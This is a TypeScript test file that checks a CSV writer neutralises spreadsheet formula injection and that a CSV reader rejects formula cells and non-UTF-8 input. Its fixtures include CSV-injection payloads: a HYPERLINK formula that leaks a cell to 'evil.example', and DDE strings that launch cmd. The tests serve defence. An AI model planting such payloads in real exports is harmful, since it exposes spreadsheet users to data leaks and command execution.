import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvField, isFormulaLike } from '../../../src/lib/csv-field.ts';
import { readCsv, toCsv } from '../../../src/lib/csv.ts';
import { datasetCsv, selectedObservations } from '../../../src/indicators/export.ts';
import { synthetic } from '../charts/synthetic.ts';

/** Values a spreadsheet would run, one per trigger OWASP lists, and variants. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1', '\r=1+1', '  =1+1', '＝1+1', '-', '--1', '-x', '+1', '=1', '@', '\n=1',
];
const NUMBERS = ['-0.25', '-1', '0.50', '1e-3', '-1.5E+2', '2021', '.5'];

/** True when no cell of `csv` would be evaluated: none starts with = + @ tab CR, nor - unless it is a number. */
function safe(csv: string): boolean {
  const cells = (parse(csv, { relax_column_count: true }) as string[][]).flat();
  return cells.every((c) => !/^[=+@\t\r]/.test(c) && (!c.startsWith('-') || /^-[\d.]/.test(c) && Number.isFinite(Number(c))));
}

describe('the CSV writer neutralises formulas (OWASP CSV injection)', () => {
  it('puts an apostrophe before every cell a spreadsheet would evaluate, and quotes it', () => {
    for (const v of HOSTILE) {
      expect(isFormulaLike(v), v).toBe(true);
      const cell = (parse(csvField(v)) as string[][])[0]![0]!;
      expect(cell, v).toBe(`'${v}`);
    }
  });
  it('leaves numbers, including negative ones, and ordinary text unchanged', () => {
    for (const v of NUMBERS) expect(csvField(v)).toBe(v);
    expect(csvField(-0.25)).toBe('-0.25');
    expect(csvField('Korea, Republic of')).toBe('"Korea, Republic of"');
    expect(csvField('e-Government')).toBe('e-Government');
    expect(csvField("O'Brien")).toBe("O'Brien");
  });
  it('toCsv writes hostile rows so that no cell evaluates, and numbers stay numbers', () => {
    const rows = HOSTILE.map((v, i) => ({ name: v, value: NUMBERS[i % NUMBERS.length]! }));
    const csv = toCsv(['name', 'value'], rows);
    expect(safe(csv)).toBe(true);
    const back = parse(csv, { columns: true }) as { name: string; value: string }[];
    expect(back.map((r) => r.value)).toEqual(rows.map((r) => r.value));
    expect(back.map((r) => r.name)).toEqual(HOSTILE.map((v) => `'${v}`));
  });
});

describe('every source that reaches a dataset CSV (/data/<id>.csv and the compare download)', () => {
  it('country names, edition sources and addresses, dataset id and licence are neutralised', () => {
    const ds = synthetic();
    ds.licence = '=HYPERLINK("https://evil.example","licence")';
    ds.dataset = '@syn';
    ds.editions = ds.editions.map((e, i) => ({ ...e, source: HOSTILE[i]!, sourceUrl: `+${e.sourceUrl}` }));
    ds.observations = ds.observations.map((o, i) => ({ ...o, country: HOSTILE[i % HOSTILE.length]!, indicator: i % 2 ? `-${o.indicator}` : o.indicator }));
    const whole = datasetCsv(ds, ds.observations);
    const selection = datasetCsv(ds, selectedObservations(ds, { edition: 2021, countries: ['AAA', 'BBB'] }));
    for (const csv of [whole, selection]) expect(safe(csv)).toBe(true);
    const rows = parse(whole, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.value)).toEqual(ds.observations.map((o) => o.value));
    expect(rows[0]!.licence).toBe(`'${ds.licence}`);
  });
});

describe('reading CSV', () => {
  const dir = mkdtempSync(join(tmpdir(), 'csv-'));
  const file = (name: string, text: string | Uint8Array) => (writeFileSync(join(dir, name), text), join(dir, name));
  it('accepts a byte-order mark and CRLF line ends', () => {
    const rows = readCsv(file('bom.csv', '\ufeffiso3,country\r\nEST,Estonia\r\n'), ['iso3', 'country']);
    expect(rows).toEqual([{ line: 2, record: { iso3: 'EST', country: 'Estonia' } }]);
  });
  it('refuses a cell a spreadsheet would run, naming file, line and column', () => {
    const f = file('f.csv', 'iso3,country,value\nEST,Estonia,-0.5\nFIN,"=HYPERLINK(""x"")",1\n');
    expect(() => readCsv(f, ['iso3'])).toThrow(`${f}:3: country: "=HYPERLINK("x")" starts with "="`);
  });
  it('refuses a file that is not UTF-8 by name and line', () => {
    const f = file('latin1.csv', Uint8Array.from([...Buffer.from('iso3,country\nEST,'), 0xe9, 0x0a]));
    expect(() => readCsv(f)).toThrow(`${f}:2: encoding: the file is not UTF-8`);
    const g = file('utf16.csv', Uint8Array.from([0xff, 0xfe, 0x69, 0]));
    expect(() => readCsv(g)).toThrow(`${g}:1: encoding: the file is UTF-16`);
  });
  it('names a missing column with the header line', () => {
    const f = file('h.csv', 'country\nEstonia\n');
    expect(() => readCsv(f, ['iso3', 'country'])).toThrow(`${f}:1: header: lacks the column(s) iso3`);
  });
});
